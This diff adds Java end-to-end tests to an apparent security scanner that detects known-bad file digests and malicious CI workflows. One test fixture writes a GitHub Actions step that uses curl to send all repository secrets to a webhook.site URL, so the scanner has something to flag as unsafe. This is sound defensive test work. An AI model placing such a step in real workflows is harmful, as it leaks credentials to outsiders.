@@ -66,6 +66,48 @@ class IndicatorsEndToEndTest {
     }
 
     @Test
+    void aDigestOfTheUsersFeedIsFoundUnderAnyNameAndWithoutThatFeedNothingIsDigested() throws IOException {
+        write("repo/notes.bin", "abc");
+        write("feed.csv", "ecosystem,name\nsha256,ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\n");
+        Report report = json("scan", "--format", "json", "--indicators", "feed.csv", "repo");
+        assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
+        assertThat(report.json().at("/findings/0/ruleId").stringValue()).isEqualTo("indicator/known-file");
+        assertThat(json("scan", "--format", "json", "repo").code()).isEqualTo(ExitCode.CLEAN);
+    }
+
+    @Test
+    void aDigestThatIsNoneIsRefusedWithItsLine() throws IOException {
+        write("repo/a.txt", "a");
+        write("feed.csv", "ecosystem,name\nsha256,abc\n");
+        Ran ran = cli.run("scan", "--indicators", "feed.csv", "repo");
+        assertThat(ran.code()).isEqualTo(ExitCode.USAGE);
+        assertThat(ran.err()).contains("line 2: 'abc' is no SHA-256 in hexadecimal");
+    }
+
+    @Test
+    void aWorkflowThatGivesSecretsAwayIsUnsafe() throws IOException {
+        Files.createDirectories(folder.resolve("repo/.github/workflows"));
+        write("repo/.github/workflows/ci.yml", """
+                on: push
+                jobs:
+                  a:
+                    runs-on: SHA1HULUD
+                    steps:
+                      - run: curl -d '${{ toJSON(secrets) }}' https://webhook.site/1
+                """);
+        Report report = json("scan", "--format", "json", "repo");
+        assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
+        assertThat(report.json()
+                        .get("findings")
+                        .valueStream()
+                        .map(each -> each.get("ruleId").stringValue()))
+                .contains(
+                        "indicator/campaign-runner",
+                        "indicator/workflow-secrets-dump",
+                        "indicator/workflow-sends-secrets");
+    }
+
+    @Test
     void aRangeThatAdmitsABadVersionIsLowAndTheRestSilent() throws IOException {
         write("repo/package.json", "{\"dependencies\": {\"debug\": \"^4.0.0\", \"chalk\": \"^4.0.0\"}}");
         Report report = json("scan", "--format", "json", "repo");
